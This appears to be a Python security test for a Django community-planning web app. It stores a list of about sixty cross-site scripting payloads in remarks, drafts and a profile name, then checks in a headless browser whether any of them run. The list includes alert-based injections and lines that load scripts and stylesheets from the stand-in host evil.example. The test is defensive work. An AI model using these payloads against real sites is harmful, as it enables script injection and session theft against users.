"""R12: words of people never run as scripts, wherever they are shown."""

from __future__ import annotations

from django.db import connections
from django.test import Client
from parecon_web.councils.models import Council, Seat
from parecon_web.members.links import make_link
from parecon_web.members.models import Member, Profile
from parecon_web.record.models import Community
from parecon_web.rounds.models import Draft, Remark

from web.bars.figure import Figure
from web.serving import Server

_HANDLERS = ("onload", "onerror", "onclick", "onfocus autofocus", "onmouseover", "ontoggle open", "onanimationstart", "onpointerenter")
_TAGS = ("img src=x", "svg", "body", "details", "input", "video src=x", "iframe", "math")
PAYLOADS = (
    "<script>alert(1)</script>", "</textarea><script>alert(1)</script>", "\"><script>alert(1)</script>", "'><script>alert(1)</script>",
    "<ScRiPt>alert(1)</ScRiPt>", "<script src=//evil.example/x.js></script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script>alert`1`</script>",
    "<a href=javascript:alert(1)>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action=javascript:alert(1)><button>x</button></form>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>", "{{7*7}}{% debug %}", "${alert(1)}", "javascript:alert(1)", "\u2028alert(1)", "&lt;script&gt;alert(1)&lt;/script&gt;", "%3Cscript%3Ealert(1)%3C/script%3E",
    "<!--<script>-->alert(1)", "]]><script>alert(1)</script>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<x onclick=alert(1)>", *(f"<{tag} {handler.replace(' ', '=alert(1) ')}{'' if ' ' in handler else '=alert(1)'}>" for tag in _TAGS for handler in _HANDLERS[:4]))[:60]


def measure_scripts(chromium: str, server: Server) -> Figure:
    """R12: put each payload into every text that is stored or shown again, look at the pages in a browser, and count what ran."""
    from playwright.sync_api import sync_playwright

    community = Community.objects.get(slug="riverside")
    rosa = Member.objects.filter(community=community).first()
    council = Seat.objects.get(member=rosa, council__kind=Council.Kind.WORKER).council
    link = f"/riverside/enter/{make_link(rosa)}"
    _store(rosa, council, link)
    stored = Remark.objects.filter(member=rosa).count() + Draft.objects.filter(member=rosa).count()
    connections.close_all()
    server.start()
    shown, ran, blocked = 0, [], []
    try:
        with sync_playwright() as playwright:
            browser = playwright.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
            page = browser.new_page()
            page.on("dialog", lambda dialog: (ran.append(dialog.message), dialog.dismiss()))
            page.on("console", lambda message: blocked.append(message.text) if "Content Security Policy" in message.text else None)
            page.on("request", lambda request: ran.append(request.url) if "evil.example" in request.url else None)
            page.goto(server.address + link)
            for path in ("", "request", f"councils/{council.slug}", f"councils/{council.slug}/draft", "review", "councils", "round", "prices"):
                page.goto(f"{server.address}/riverside/{path}")
                shown += 1
            for payload in PAYLOADS:
                for path, field, button in (("request", '[id="use:bicycle"]', '.bar-bottom button[value=check]'), ("request", "#q", "button[value=search]"),
                                            (f"councils/{council.slug}/draft", "#reasons", ".bar-bottom button[value=check]")):
                    page.goto(f"{server.address}/riverside/{path}")
                    page.fill(field, payload)
                    page.click(button)
                    page.wait_for_load_state()
                    shown += 1
            browser.close()
    finally:
        server.kill()
    text = (f"{len(PAYLOADS)} payloads, {stored} stored and each sent through 3 more fields, {shown} pages seen in a browser: {len(ran)} ran, "
            f"{len(blocked)} had to be stopped by the Content-Security-Policy")
    return Figure("R12", text, not ran and not blocked and stored == 2 * len(PAYLOADS))


def _store(rosa: Member, council: Council, link: str) -> None:
    browser = Client()
    browser.get(link)
    Profile.objects.filter(member=rosa).update(name=PAYLOADS[0])
    for i, payload in enumerate(PAYLOADS):
        browser.post(f"/riverside/councils/{council.slug}/remarks", {"text": payload, "request_id": f"remark-{i}"})
        draft = {"make:house": "1", "reasons": payload, "based_on": str(i), "request_id": f"draft-{i}", "act": "save"}
        browser.post(f"/riverside/councils/{council.slug}/draft", draft)
